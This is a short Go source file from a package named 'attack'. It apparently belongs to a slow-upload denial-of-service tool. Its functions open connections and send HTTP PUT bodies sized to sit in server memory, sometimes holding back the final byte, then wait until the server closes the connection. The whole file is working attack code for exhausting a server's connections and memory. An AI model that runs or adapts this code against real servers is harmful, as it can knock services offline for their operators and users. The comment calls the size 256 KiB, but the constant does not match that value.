package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
)

// uploadSize is the length of a body: just what servers keep in memory rather than in
// a file (256 KiB).
const uploadSize = 261_000

// heldUpload sends a body but for its last byte.
func heldUpload(ctx context.Context, p Plan, i int, opened func()) error {
	return upload(ctx, p, i, uploadSize-1, opened)
}

// wholeUpload sends all of a body, to an application that takes its time.
func wholeUpload(ctx context.Context, p Plan, i int, opened func()) error {
	return upload(ctx, p, i, uploadSize, opened)
}

// upload sends so much of a body, and reads until the connection has ended.
func upload(ctx context.Context, p Plan, i, n int, opened func()) error {
	c, err := dial(ctx, p, i, 0)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := fmt.Fprintf(c, "PUT %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", p.Path, p.Address, uploadSize); err != nil {
		return err
	}
	if _, err := c.Write(bytes.Repeat([]byte("u"), n)); err != nil {
		return err
	}
	opened()
	_, err = io.Copy(io.Discard, c)
	return err
}
